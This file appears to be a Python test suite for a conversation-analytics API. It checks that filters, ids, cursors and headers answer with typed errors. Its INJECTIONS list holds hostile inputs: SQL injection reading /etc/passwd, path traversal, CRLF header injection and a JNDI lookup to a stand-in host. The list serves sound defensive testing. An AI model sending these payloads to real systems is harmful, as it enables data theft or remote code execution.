"""Whatever is asked: a typed answer that says what was wrong, never an internal error."""

from __future__ import annotations

import string
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conversation_analytics.api.cursors import Place, place_of
from conversation_analytics.api.problems import Problem
from conversation_analytics.settings import Settings
from conversation_analytics.storage.lake import open_lake
from conversation_analytics.storage.layout import CATEGORIES_UNIT, CONVERSATIONS_UNIT, RAW
from conversation_analytics_tests.api.lake import FIRST, Api, api_over

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE c; --",
    "\"; SELECT * FROM read_csv('/etc/passwd'); --",
    "x') UNION SELECT * FROM duckdb_settings() --",
    '{"$gt": ""}',
    "$where: sleep(1000)",
    "../../../../etc/passwd",
    "%2e%2e%2f",
    "a\x00b",
    "\r\nSet-Cookie: x=1",
    "${jndi:ldap://evil.test}",
    "\u202e right to left",
    "\U0001f4a9" * 50,
]
TEXT_FILTERS = ("user", "topic", "language", "channel", "model", "status", "intent", "q")


def kind(answer: Any) -> str:
    """The kind of problem that is answered."""
    assert answer.headers["content-type"] == "application/problem+json", answer.text
    body = answer.json()
    assert body["status"] == answer.status_code
    assert body["request_id"] == answer.headers["x-request-id"]
    found: str = body["type"].rpartition(":")[2]
    return found


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("name", TEXT_FILTERS)
def test_a_filter_is_a_value_and_nothing_else(api: Api, name: str, text: str) -> None:
    assert api.ids(**{name: text}) == []


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("kind_of", ["conversation", "user"])
def test_an_id_is_a_value_and_nothing_else(api: Api, kind_of: str, text: str) -> None:
    answer = api.get(f"/{kind_of}s/{quote(text, safe='')}")
    assert answer.status_code == 404
    assert kind(answer) in {f"no-{kind_of}", "not-found"}


@pytest.mark.parametrize("text", INJECTIONS)
def test_names_of_figures_are_known_or_refused(api: Api, text: str) -> None:
    key = quote(text, safe="")
    asked = {
        f"/series?metric={key}": {"unknown-metric"},
        f"/series?metric=messages&by={key}": {"unknown-dimension"},
        f"/exports/figures?metric=messages&metric={key}": {"unknown-metric"},
        f"/exports/figures?by=(none)&by={key}": {"unknown-dimension"},
        f"/exports/figures?grain={key}": {"invalid-request"},
        f"/reports/daily/{key}": {"invalid-period", "invalid-request", "not-found"},
        f"/reports/{key}/2024-01-02": {"invalid-request", "not-found"},
        f"/reports/daily/{key}/page": {"invalid-period", "invalid-request", "not-found"},
        f"/reports?before={key}": {"invalid-period"},
        f"/reports/compare?key={key}": {"invalid-period"},
        f"/models?key={key}": {"invalid-period"},
    }
    assert {path for path, kinds in asked.items() if kind(api.get(path)) not in kinds} == set()
    assert api.get(f"/series?metric=messages&by=topic&value={key}").json()["series"] == []


@pytest.mark.parametrize("name", ["user[$ne]", "user.$gt", "__proto__", "Limit", "filter", "order"])
def test_an_unknown_parameter_is_refused_not_ignored(api: Api, name: str) -> None:
    answer = api.get("/conversations", params={name: "1"})
    assert kind(answer) == "invalid-request"
    assert name in answer.json()["errors"][0]["part"]


@pytest.mark.parametrize(
    ("params", "problem"),
    [
        ({"from": "2024-13-01"}, "invalid-request"),
        ({"from": "20240101"}, "invalid-request"),
        ({"from": "1704067200"}, "invalid-request"),
        ({"from": ""}, "invalid-request"),
        ({"from": "2024-01-03", "to": "2024-01-02"}, "invalid-request"),
        ({"from": "2999-01-01"}, "future-date"),
        ({"limit": "0"}, "invalid-request"),
        ({"limit": "201"}, "invalid-request"),
        ({"limit": "1e9"}, "invalid-request"),
        ({"limit": "9" * 400}, "invalid-request"),
        ({"min_messages": "-1"}, "invalid-request"),
        ({"escalated": "maybe"}, "invalid-request"),
        ({"feedback": "great"}, "invalid-request"),
        ({"q": "x"}, "invalid-request"),
        ({"q": "x" * 201}, "invalid-request"),
        ({"user": [str(n) for n in range(21)]}, "invalid-request"),
        ({"cursor": "x"}, "invalid-cursor"),
        ({"cursor": "x" * 1_501}, "invalid-request"),
        ({"cursor": "W10"}, "invalid-cursor"),
        ({"cursor": "ü"}, "invalid-cursor"),
        ({"cursor": "../../etc/passwd"}, "invalid-cursor"),
    ],
)
def test_wrong_values_are_named(api: Api, params: dict[str, Any], problem: str) -> None:
    assert kind(api.get("/conversations", params=params)) == problem


def test_a_cursor_of_other_filters_is_refused(api: Api) -> None:
    cursor = api.get("/conversations", params={"limit": 1}).json()["next_cursor"]
    answer = api.get("/conversations", params={"cursor": cursor, "user": "u1"})
    assert kind(answer) == "invalid-cursor"
    assert "other filters" in answer.json()["detail"]


@given(st.text(max_size=60) | st.text(string.ascii_letters + string.digits + "-_", max_size=200))
def test_a_made_up_cursor_is_a_problem_and_no_crash(text: str) -> None:
    with pytest.raises(Problem):
        place_of(text, "filters")


@given(st.dates(), st.none() | st.tuples(st.integers(-(2**60), 2**60), st.text(max_size=50)))
def test_a_cursor_comes_back_as_it_went(day: Any, after: Any) -> None:
    place = Place(day, after)
    assert place_of(place.cursor("filters"), "filters") == place


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=80))
def test_any_path_and_query_is_answered(api: Api, data: bytes) -> None:
    path = "".join(f"%{byte:02x}" for byte in data)
    for address in (f"/api/v1/{path}", f"/api/v1/conversations?q={path}", f"/{path}?{path}"):
        answer = api.client.get(address, headers={"X-API-Key": api.keys["admin"]})
        assert answer.status_code < 500


def test_a_header_cannot_be_smuggled_into_an_answer(api: Api) -> None:
    answer = api.get("/ledger", headers={"X-Request-ID": "evil value; x=1"})
    assert answer.headers["x-request-id"].isalnum()
    known = api.get("/ledger", headers={"X-Request-ID": "0123-my-request"})
    assert known.headers["x-request-id"] == "0123-my-request"


@pytest.mark.parametrize("unit", [CONVERSATIONS_UNIT, CATEGORIES_UNIT])
@pytest.mark.parametrize("damage", [b"", b"{", b'{"unit": "conversations"}', b"\xff" * 40])
def test_a_corrupt_manifest_is_told_with_its_day(
    own_lake: Settings, tmp_path: Path, unit: Any, damage: bytes
) -> None:
    lake = open_lake(own_lake)
    lake.store.put(lake.layout.manifest(unit, FIRST), damage)
    with api_over(own_lake, tmp_path) as api:
        answer = api.get("/conversations", params={"to": "2024-01-02"})
        assert kind(answer) == "damaged-day"
        assert answer.json()["day"] == "2024-01-02"
        assert str(tmp_path) not in answer.text
        assert len(api.ids(**{"from": "2024-01-03"})) == 16


def test_a_file_that_does_not_fit_its_manifest_is_told(own_lake: Settings, tmp_path: Path) -> None:
    lake = open_lake(own_lake)
    lake.store.put(lake.layout.file("messages", FIRST), b"PAR1 not really")
    with api_over(own_lake, tmp_path) as api:
        assert kind(api.get("/conversations/c-02-0")) == "damaged-day"
        assert api.get("/conversations/c-03-0").status_code == 200


@pytest.mark.parametrize(
    "name", ["_manifest.json", "report.json", "report.html", "figures.parquet"]
)
def test_a_damaged_report_is_told(own_lake: Settings, tmp_path: Path, name: str) -> None:
    lake = open_lake(own_lake)
    lake.store.put(f"analytics_reports/daily/2024-01-02/{name}", b"{")
    with api_over(own_lake, tmp_path) as api:
        for path, file in {
            "/reports/daily/2024-01-02": "report.json",
            "/reports/daily/2024-01-02/page": "report.html",
            "/series?metric=messages": "figures.parquet",
        }.items():
            answer = api.get(path)
            if name in {file, "_manifest.json"}:
                assert kind(answer) == "damaged-report"
                assert answer.json()["key"] == "2024-01-02"
            else:
                assert answer.status_code == 200
        assert api.get("/reports/daily/2024-01-03").status_code == 200


def test_a_damaged_ledger_is_told(own_lake: Settings, tmp_path: Path) -> None:
    lake = open_lake(own_lake)
    lake.store.put(lake.layout.manifest(RAW, FIRST), b"{")
    with api_over(own_lake, tmp_path) as api:
        assert kind(api.get("/ledger")) == "lake-unavailable"


def test_a_lake_of_other_settings_is_told(lake_settings: Settings, tmp_path: Path) -> None:
    with api_over(lake_settings, tmp_path, analytics_timezone="Asia/Bangkok") as api:
        assert kind(api.get("/ledger")) == "lake-unavailable"
